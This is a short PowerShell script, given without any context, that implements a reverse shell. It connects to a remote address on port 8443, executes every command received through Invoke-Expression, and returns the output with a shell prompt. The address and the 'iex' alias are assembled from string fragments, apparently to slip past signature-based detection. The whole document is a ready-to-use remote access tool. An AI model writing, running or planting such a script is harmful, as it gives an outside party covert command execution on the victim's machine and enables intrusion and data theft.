$h = '203.0.113' + '.18'; $p = 8443
$c = New-Object Net.Sockets.TCPClient($h, $p)
$s = $c.GetStream(); $buf = New-Object byte[] 65535
$run = Get-Alias ('i' + 'ex')
while (($n = $s.Read($buf, 0, $buf.Length)) -ne 0) {
  $cmd = [Text.Encoding]::UTF8.GetString($buf, 0, $n)
  $out = (& $run $cmd 2>&1 | Out-String) + 'PS ' + (Get-Location).Path + '> '
  $b = [Text.Encoding]::UTF8.GetBytes($out); $s.Write($b, 0, $b.Length); $s.Flush()
}
$c.Close()
